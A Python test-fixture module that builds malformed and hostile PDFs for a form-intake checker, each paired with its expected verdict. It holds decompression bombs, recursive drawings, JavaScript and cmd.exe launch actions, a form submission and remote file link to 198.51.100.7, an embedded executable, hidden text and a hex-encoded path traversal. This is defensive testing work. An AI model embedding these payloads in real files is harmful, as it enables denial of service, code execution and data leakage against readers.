"""PDF files that are broken, odd or hostile, and otherwise a completed request for a supplementary role."""

from __future__ import annotations

import functools
import zlib
from functools import partial

from tests.builders_pdf import Page, form_pdf, make_pdf, raw_pdf, stream
from tests.catalogue.entry import Accepted, Entry, Refused
from tests.catalogue.word_files import ANSWERS
from tests.catalogue.zip_files import MIB, zlib_stream

_DAMAGED = "is damaged"
_UNPACKS = "unpacks to far more"
_FLATE = b"/Filter/FlateDecode"
_CATALOGUE, _PAGES = b"<</Type/Catalog/Pages 2 0 R%s>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>"


def _draw(page: Page) -> None:
    page.text(40, 40, "Request for a New Supplementary Role", size=16)
    top, step = 70.0, 34.0
    page.grid([40, 210, 555], [top + step * number for number in range(len(ANSWERS) + 1)])
    for number, (label, answer) in enumerate(ANSWERS.items()):
        page.text(46, top + step * number + 20, label, size=10)
        page.text(216, top + step * number + 20, answer, size=8)


@functools.cache
def form_page(encrypt: object = None) -> bytes:
    """The completed form as a PDF of one page."""
    return make_pdf(_draw, encrypt=encrypt)


def drawn_operators() -> bytes:
    """What draws the completed form, for PDFs that are put together by hand with a font called F."""
    lines = [b"BT /F 16 Tf 40 802 Td (Request for a New Supplementary Role) Tj ET"]
    for number, (label, answer) in enumerate(ANSWERS.items()):
        y = 842 - 70 - 34 * number
        lines.append(b"40 %d 170 34 re S 210 %d 345 34 re S" % (y - 34, y - 34))
        for x, words in ((46, label), (216, answer)):
            lines.append(b"BT /F 9 Tf %d %d Td (%s) Tj ET" % (x, y - 20, words.encode("latin-1")))
    return b"\n".join(lines)


def by_hand(
    *more: bytes, catalogue: bytes = b"", page: bytes = b"", resources: bytes = b"", content: bytes | None = None
) -> bytes:
    """A one-page PDF from its objects: 1 catalogue, 2 pages, 3 page, 4 content, 5 font, 6 and on `more`."""
    drawn = drawn_operators() if content is None else content
    return raw_pdf(
        [
            _CATALOGUE % catalogue,
            _PAGES,
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>%s>>%s>>"
            % (resources, page),
            drawn if drawn.startswith(b"<<") else stream(drawn),
            _FONT,
            *more,
        ]
    )


def packed(content: bytes, extra: bytes = b"") -> bytes:
    """A stream object that is deflated."""
    return stream(zlib.compress(content, 9), _FLATE + extra)


def without_xref() -> bytes:
    """The completed form with its table of objects cut off."""
    data = by_hand()
    return data[: data.rindex(b"xref\n0")] + data[data.rindex(b"trailer") : data.rindex(b"startxref")]


def xref_loop() -> bytes:
    """Two tables of objects that name each other as the one before."""
    data = by_hand()
    start = data.rindex(b"xref\n0")
    return data.replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Prev %d>>" % start)


def pages_loop() -> bytes:
    """A tree of pages that holds itself."""
    return raw_pdf(
        [_CATALOGUE % b"", b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>", b"<</Type/Pages/Kids[2 0 R]/Count 1>>"]
    )


def pages_deep() -> bytes:
    """A tree of pages 5,000 levels deep."""
    levels = [
        b"<</Type/Pages/Kids[%d 0 R]/Count 1%s>>" % (3 + at, b"/Parent %d 0 R" % (1 + at) if at else b"")
        for at in range(5000)
    ]
    return raw_pdf([_CATALOGUE % b"", *levels, b"<</Type/Page/Parent 5001 0 R/MediaBox[0 0 9 9]>>"])


def many_pages(count: int, *, shared: bool = False, claimed: int | None = None) -> bytes:
    """A PDF with this many pages, all the same one where `shared`, and another count in its tree where `claimed`."""
    kids = b" ".join(b"%d 0 R" % (3 + (0 if shared else at)) for at in range(count))
    pages = [b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"] * (1 if shared else count)
    return raw_pdf([_CATALOGUE % b"", b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, claimed or count), *pages])


def count_lie() -> bytes:
    """The completed form, whose tree of pages claims a thousand million of them."""
    return by_hand().replace(b"/Count 1>>", b"/Count 1000000000>>", 1)


def filter_chain() -> bytes:
    """A stream that was deflated twice."""
    return stream(zlib.compress(zlib_stream(2048 * MIB), 9), b"/Filter[/FlateDecode/FlateDecode]")


def object_stream_bomb() -> bytes:
    """A stream of objects that unpacks to 1 GiB."""
    return by_hand(stream(zlib_stream(1024 * MIB), _FLATE + b"/Type/ObjStm/N 1/First 5"))


def drawings_within_drawings(levels: int = 9, times: int = 10) -> bytes:
    """Drawings that each paint the next one ten times."""
    first = 6
    more = []
    for level in range(levels):
        last = level == levels - 1
        content = b"0 0 1 1 re f" if last else b"/N Do " * times
        names = b"" if last else b"/Resources<</XObject<</N %d 0 R>>>>" % (first + level + 1)
        more.append(stream(content, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]" + names))
    return by_hand(*more, resources=b"/XObject<</N 6 0 R>>", content=drawn_operators() + b"\n/N Do")


def drawing_of_itself() -> bytes:
    """A drawing that paints itself."""
    one = stream(b"/N Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</N 6 0 R>>>>")
    return by_hand(one, resources=b"/XObject<</N 6 0 R>>", content=drawn_operators() + b"\n/N Do")


def rulings(lines: int) -> bytes:
    """The completed form with many ruled lines over it."""
    drawn = b"\n".join(b"%d %d m %d %d l S" % (at % 500, at % 800, at % 500 + 60, at % 800) for at in range(lines))
    return by_hand(content=packed(drawn_operators() + b"\n" + drawn))


def grid(rows: int, columns: int) -> bytes:
    """The completed form with a table of this many cells drawn under it, each with its word."""
    lines = [b"%.1f 20 m %.1f 250 l S" % (40 + 3 * at, 40 + 3 * at) for at in range(columns + 1)]
    lines += [b"40 %.1f m 490 %.1f l S" % (20 + 1.5 * at, 20 + 1.5 * at) for at in range(rows + 1)]
    return by_hand(content=packed(drawn_operators() + b"\n" + b"\n".join(lines)))


def picture_page(width: int, height: int, data: bytes, extra: bytes = b"") -> bytes:
    """A page that is nothing but a picture."""
    about = b"/Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceGray/BitsPerComponent 8" % (width, height)
    image = stream(data, about + extra)
    return by_hand(image, resources=b"/XObject<</I 6 0 R>>", content=b"q 595 0 0 842 0 0 cm /I Do Q")


def without_unicode() -> bytes:
    """Letters of a font that does not say what they stand for."""
    font = (
        b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/DescendantFonts[<</Type/Font/Subtype/CIDFontType2"
        b"/BaseFont/X/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>/FontDescriptor<</Type"
        b"/FontDescriptor/FontName/X/Flags 4/FontBBox[0 0 1 1]/ItalicAngle 0/Ascent 0/Descent 0/CapHeight 0/StemV 0>>"
        b">>]>>"
    )
    line = b"BT /G 12 Tf 40 %d Td <0024002500260027002800290030003100320033> Tj ET"
    content = b"\n".join(line % (800 - 20 * at) for at in range(10))
    return by_hand(font, resources=b"/Font<</G 6 0 R>>", content=content).replace(b"/Font<</F 5 0 R>>/Font", b"/Font")


def fields(*extra: bytes) -> bytes:
    """The form printed, its role a form field without an appearance."""
    content = drawn_operators().replace(b"(Menopause Advocate)", b"()")
    box = [b"<</Type/Annot/Subtype/Widget/FT/Tx/T(role)/TU(Name of role)/V(Menopause Advocate)/Rect[212 468 550 498]>>"]
    return form_pdf(box, content=content, form_extra=b"".join(extra))


def two_revisions() -> bytes:
    """The completed form, whose content was replaced in an update written behind its end."""
    old = by_hand(content=drawn_operators().replace(b"Menopause Advocate", b"Something else entirely"))
    return updated(old, 4, stream(drawn_operators()))


def page_revised() -> bytes:
    """The completed form, whose page was given another content in an update."""
    old = by_hand(stream(drawn_operators()), content=b"BT /F 9 Tf 40 800 Td (Something else) Tj ET")
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 6 0 R/Resources<</Font<</F 5 0 R>>>>>>"
    return updated(old, 3, page)


def field_revised() -> bytes:
    """A form field filled in with another program, which writes it behind the file's first end."""
    old = fields().replace(b"/V(Menopause Advocate)", b"/V()                  ")
    box = b"<</Type/Annot/Subtype/Widget/FT/Tx/T(role)/TU(Name of role)/V(Menopause Advocate)/Rect[212 468 550 498]>>"
    return updated(old, 6, box)


def script_in_a_packed_object() -> bytes:
    """An action on opening that stands in a stream of objects, which only a stream of references can lead to."""
    inside = b"6 0 <</S/JavaScript/JS(1)>>"
    return by_hand(packed(inside, b"/Type/ObjStm/N 1/First 4"))


def updated(old: bytes, number: int, body: bytes) -> bytes:
    """A PDF with one object replaced by an update behind its end."""
    start = int(old.rpartition(b"startxref\n")[2].split()[0])
    written = b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"xref\n%d 1\n%010d 00000 n \n" % (number, len(old) + 1)
    trailer = b"trailer<</Size 9/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF" % (start, len(old) + 1 + len(written))
    return old + b"\n" + written + table + trailer


def hidden(operators: bytes) -> bytes:
    """The completed form with words nobody can see."""
    return by_hand(content=drawn_operators() + b"\n" + operators)


def opens_with(action: bytes) -> bytes:
    """The completed form with an action for when it is opened."""
    return by_hand(catalogue=b"/OpenAction<<" + action + b">>")


def link_to(action: bytes) -> bytes:
    """The completed form with a link that does something."""
    return by_hand(page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<<" + action + b">>>>]")


def _locked(user: str, owner: str) -> bytes:
    from reportlab.lib.pdfencrypt import StandardEncryption

    return make_pdf(_draw, encrypt=StandardEncryption(user, owner, strength=128))


def _entries() -> list[Entry]:
    found: list[Entry] = []

    def add(number: int, name: str, how: str, make: object, outcome: Accepted | Refused) -> None:
        found.append(Entry(number, f"pdf-{name}", how, make, outcome))  # type: ignore[arg-type]

    damaged = Refused("corrupt", _DAMAGED)
    unsafe = Refused("corrupt", "pages that cannot be shown")
    add(45, "header-only", "the first line only", lambda: b"%PDF-1.7\n", damaged)
    add(45, "truncated", "the first half", lambda: by_hand()[: len(by_hand()) // 2], damaged)
    add(45, "no-xref", "the table of objects cut off", without_xref, Accepted())
    add(46, "xref-loop", "tables of objects that lead in a ring", xref_loop, Accepted())
    add(46, "pages-loop", "pages that hold each other", pages_loop, unsafe)
    add(46, "pages-deep", "a tree of pages 5,000 levels deep", pages_deep, unsafe)
    add(47, "pages-2000", "2,000 pages", partial(many_pages, 2000), Refused("too-complex", "has 2000 pages"))
    add(
        47,
        "pages-100000",
        "one page 100,000 times",
        partial(many_pages, 100_000, shared=True),
        Refused("too-complex", "has 100000 pages"),
    )
    add(47, "count-lie", "a thousand million pages claimed", count_lie, Accepted())
    add(
        48,
        "flate-bomb",
        "a stream of 2 GiB",
        lambda: by_hand(content=stream(zlib_stream(2048 * MIB), _FLATE)),
        Refused("too-complex", _UNPACKS),
    )
    add(
        48,
        "filter-chain",
        "2 GiB deflated twice",
        lambda: by_hand(content=filter_chain()),
        Refused("too-complex", _UNPACKS),
    )
    add(48, "objstm-bomb", "a stream of objects of 1 GiB", object_stream_bomb, Refused("too-complex", _UNPACKS))
    add(
        49,
        "3m-operators",
        "three million strokes in 40 KB",
        lambda: by_hand(content=packed(b"0 0 m 1 1 l S\n" * 1_000_000)),
        Refused("too-complex", ""),
    )
    add(
        49,
        "form-laughs",
        "drawings within drawings, a thousand million in all",
        drawings_within_drawings,
        Refused("too-complex", "repeats drawings"),
    )
    add(50, "lines-20000", "20,000 ruled lines", partial(rulings, 20_000), Accepted())
    add(50, "grid-150x150", "a table of 22,500 cells", partial(grid, 150, 150), Accepted())
    add(51, "form-self", "a drawing that paints itself", drawing_of_itself, Accepted())
    add(
        51,
        "nested-arrays",
        "a list in a list, 100,000 deep",
        lambda: by_hand(page=b"/X" + b"[" * 100_000 + b"]" * 100_000),
        Accepted(),
    )
    add(51, "neg-length", "a stream of -5 bytes", lambda: by_hand().replace(b"/Length ", b"/Length -", 1), Accepted())
    add(
        51,
        "mediabox-bad",
        "a page without a size",
        lambda: by_hand().replace(b"[0 0 595 842]", b"[0 0 0 x]", 1),
        Accepted(("cannot be seen on the page",)),
    )
    add(
        51,
        "mediabox-huge",
        "a page of 10 km",
        lambda: by_hand().replace(b"[0 0 595 842]", b"[0 0 28346456 28346456]", 1),
        Accepted(),
    )
    add(
        52,
        "user-password",
        "needs a password to open",
        partial(_locked, "secret", "owner"),
        Refused("encrypted", "needs a password"),
    )
    add(52, "owner-password", "needs a password to change", partial(_locked, "", "owner"), Accepted())
    active = Accepted(("a script or action",))
    add(
        53,
        "javascript",
        "a script that runs on opening",
        lambda: opens_with(b"/S/JavaScript/JS(app.alert\\(1\\))"),
        active,
    )
    add(
        53,
        "javascript-named",
        "a script by name",
        lambda: by_hand(catalogue=b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>"),
        active,
    )
    add(
        53,
        "javascript-page",
        "a script for when a page is shown",
        lambda: by_hand(page=b"/AA<</O<</S/JavaScript/JS(1)>>>>"),
        active,
    )
    add(53, "javascript-link", "a script behind a link", lambda: link_to(b"/S/JavaScript/JS(1)"), active)
    add(
        53,
        "javascript-spelt",
        "a script whose name is spelt in numbers",
        lambda: opens_with(b"/S/J#61vaScript/J#53(1)"),
        active,
    )
    add(53, "javascript-packed", "a script in a packed object", script_in_a_packed_object, active)
    add(
        53,
        "javascript-date",
        "the script that lays out a date field",
        lambda: fields(b'/X<</S/JavaScript/JS(AFDate_FormatEx\\("dd/mm/yyyy"\\))>>'),
        Accepted(),
    )
    add(53, "launch", "a program started on opening", lambda: opens_with(b"/S/Launch/F(cmd.exe)"), active)
    add(53, "launch-link", "a program started by a link", lambda: link_to(b"/S/Launch/F(cmd.exe)"), active)
    add(
        53,
        "submitform",
        "sent elsewhere on opening",
        lambda: opens_with(b"/S/SubmitForm/F(http://198.51.100.7/)"),
        active,
    )
    add(
        53,
        "goto-remote",
        "another file opened with it",
        lambda: opens_with(b"/S/GoToR/F(\\\\\\\\198.51.100.7\\\\x.pdf)/D[0/Fit]"),
        active,
    )
    add(
        53,
        "embedded-exe",
        "a program attached inside",
        lambda: by_hand(
            b"<</Type/Filespec/F(x.exe)/EF<</F 7 0 R>>>>",
            stream(b"MZ", b"/Type/EmbeddedFile"),
            catalogue=b"/Names<</EmbeddedFiles<</Names[(x.exe)6 0 R]>>>>",
        ),
        Accepted(("other files attached",), ("file attached",)),
    )
    add(
        53,
        "rich-media",
        "a film",
        lambda: by_hand(page=b"/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]"),
        active,
    )
    notice = b"BT /F 12 Tf 40 800 Td (Please wait... Your Adobe Reader may be too old.) Tj ET"
    add(
        54,
        "xfa",
        "a form that only Adobe Reader can show",
        lambda: form_pdf([], content=notice, form_extra=b"/XFA 5 0 R"),
        Refused("unsupported", "only Adobe Reader"),
    )
    add(55, "acroform", "a form field without an appearance", fields, Accepted())
    add(
        56,
        "scan",
        "a page that is a grey picture",
        lambda: picture_page(60, 85, b"\x80" * 5100),
        Refused("needs-ocr", "could not read any words"),
    )
    add(
        56,
        "no-unicode",
        "letters that stand for nothing",
        without_unicode,
        Refused("no-form", "not one of the forms we know"),
    )
    add(
        34,
        "image-huge",
        "a picture of 50,000 by 50,000 dots",
        lambda: picture_page(50_000, 50_000, zlib_stream(200 * MIB), _FLATE),
        Refused("needs-ocr", "could not read any words"),
    )
    unseen = Accepted(("cannot be seen on the page",), answer="")
    add(
        57,
        "hidden-text",
        "words drawn without ink",
        lambda: hidden(b"BT 3 Tr /F 9 Tf 400 480 Td (secretly) Tj ET"),
        unseen,
    )
    add(57, "white-text", "words in white", lambda: hidden(b"1 1 1 rg BT /F 9 Tf 400 480 Td (secretly) Tj ET"), unseen)
    add(57, "off-page", "words beside the page", lambda: hidden(b"BT /F 9 Tf 1400 480 Td (secretly) Tj ET"), unseen)
    add(57, "two-revisions", "changed after it was saved", two_revisions, Accepted(("earlier version",)))
    add(57, "page-revised", "a page given another content", page_revised, Accepted(("earlier version",)))
    add(57, "field-revised", "a field filled in and saved", field_revised, Accepted())
    add(
        58,
        "cmap-path",
        "an encoding that names a file of ours",
        lambda: by_hand().replace(b"/WinAnsiEncoding", b"/#2e#2e#2fstore#2fx"),
        Accepted(),
    )
    return found


PDF_FILES = _entries()
